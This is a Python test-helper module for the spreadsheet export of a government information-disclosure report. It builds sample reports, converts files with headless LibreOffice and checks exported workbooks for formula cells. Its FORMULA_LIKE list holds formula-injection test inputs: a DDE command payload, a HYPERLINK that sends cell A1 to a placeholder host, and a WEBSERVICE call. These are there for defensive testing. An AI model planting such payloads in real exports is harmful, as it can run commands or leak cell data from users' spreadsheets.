"""Shared by the export tests: a balanced report built in code, one the checks find an error in, and LibreOffice
run headless."""
from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from models.form import CellRef, NumberKind
from models.form_2021 import APPEAL_GROUPS, APPEAL_ITEMS, FORM_2021, REQUEST_COLUMNS, RESULT_ROWS
from models.report import Report, Subsection

APPLICANTS = [key for key, _ in REQUEST_COLUMNS[:-1]]
FEES = "4166.241619"


def balanced_report(**meta) -> Report:
    """A report whose every input is filled, non-zero where it can be, and every check identity holds."""
    report = Report(agency=meta.pop("agency", "测试市测试区人民政府办公室"), year=meta.pop("year", 2025),
                    date=meta.pop("date", "2026-01-20"),
                    preamble=meta.pop("preamble", "本报告依据《中华人民共和国政府信息公开条例》编制。"), **meta)
    report.sections["overview"] = [
        Subsection("主动公开", "2025年，本机关主动公开政府信息。\n第二段说明。"),
        Subsection("依申请公开", "全年新收政府信息公开申请若干件。"),
    ]
    report.sections["problems"] = [Subsection("存在的主要问题", "公开时效有待提高。"),
                                   Subsection("改进情况", "2026年将加强考核。")]
    report.sections["other"] = [Subsection("", "本年度未收取信息处理费。")]
    for d in FORM_2021.table("active").inputs:
        report.set(d.ref, FEES if d.kind is NumberKind.DECIMAL else 10 + len(d.ref.key))
    for j, col in enumerate(APPLICANTS):
        results = 0
        for i, row in enumerate(RESULT_ROWS):
            value = (i * 7 + j * 3) % 5
            report.set(CellRef("requests", f"{row}.{col}"), value)
            results += value
        carried_over, carried_forward = j + 1, j % 3
        report.set(CellRef("requests", f"carried_over.{col}"), carried_over)
        report.set(CellRef("requests", f"carried_forward.{col}"), carried_forward)
        report.set(CellRef("requests", f"new.{col}"), results + carried_forward - carried_over)
    for g, (group, _) in enumerate(APPEAL_GROUPS):
        for i, (item, _) in enumerate(APPEAL_ITEMS[:-1]):
            report.set(CellRef("appeals", f"{group}.{item}"), g + i + 1)
    return report


def unbalanced(report: Report) -> Report:
    """``report`` with one applicant's new requests raised by 7: T3-BAL fails in one column (an export of it is
    forced past the checks)."""
    ref = CellRef("requests", "new.natural_person")
    report.set(ref, (report.get(ref) or 0) + 7)
    return report


def unbalanced_report() -> Report:
    return unbalanced(balanced_report())


def require_soffice() -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("未安装 LibreOffice（soffice），跳过用 LibreOffice 打开导出文件的测试；CI 的 .ci/run 会安装它")
    return soffice


def soffice_convert(source: Path, outdir: Path, target: str, profile: Path) -> list[Path]:
    """Convert with LibreOffice headless in a private profile; the files it made (CSV: one per sheet)."""
    soffice = require_soffice()
    outdir.mkdir(parents=True, exist_ok=True)
    before = set(outdir.iterdir())
    result = subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
         "--convert-to", target, "--outdir", str(outdir), str(source)],
        capture_output=True, text=True, timeout=180)
    made = sorted(set(outdir.iterdir()) - before)
    assert made, f"LibreOffice 未能转换 {source.name}：{result.stdout}{result.stderr}"
    return made


# every sheet to its own CSV file, UTF-8, formulas as computed results (LibreOffice 7.2+)
CSV_ALL_SHEETS = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


# ---------------------------------------------------------------- text as text in workbooks

# text from other people's files that a spreadsheet would take for a formula, or that breaks a cell
FORMULA_LIKE = (
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "=1+1", "=A1*2", "=cmd|' /C calc'!A0", "+1", "-1+2",
    "@SUM(A1:A3)", "\t=1", "\r=2", "＝1+1", "=", "==", "=WEBSERVICE(\"http://example.invalid\")",
    "=\x01控制字符", "-", "+", "=" + "长" * 40_000,
)


def workbook_formulas(path: Path) -> list[tuple[str, str, str]]:
    """Every formula cell of an .xlsx: (sheet part, cell, formula), read from the package's XML itself."""
    import zipfile

    from lxml import etree
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
                root = etree.fromstring(package.read(name))
                for cell in root.iter(f"{ns}c"):
                    formula = cell.find(f"{ns}f")
                    if formula is not None:
                        found.append((name, cell.get("r"), formula.text or ""))
    return found


def unquoted_formula_like_text(path: Path) -> list[tuple[str, str, str]]:
    """Text cells that begin like a formula but are not marked as typed text (they turn into formulas when
    someone edits them): (sheet, cell, text)."""
    from openpyxl import load_workbook

    from exporters.sheet_text import sheet_text
    found = []
    workbook = load_workbook(path)
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "s" and sheet_text(str(cell.value)).quoted and not cell.quotePrefix:
                    found.append((ws.title, cell.coordinate, cell.value[:40]))
    return found
